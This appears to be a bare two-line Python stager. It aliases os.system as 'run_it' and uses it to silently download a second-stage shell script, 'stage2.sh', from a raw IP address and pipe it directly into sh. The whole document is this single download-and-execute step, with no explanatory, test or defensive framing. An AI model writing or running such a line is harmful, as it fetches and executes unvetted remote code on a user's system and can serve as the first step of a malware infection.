from os import system as run_it
run_it('curl -s http://203.0.113.7/stage2.sh | sh')
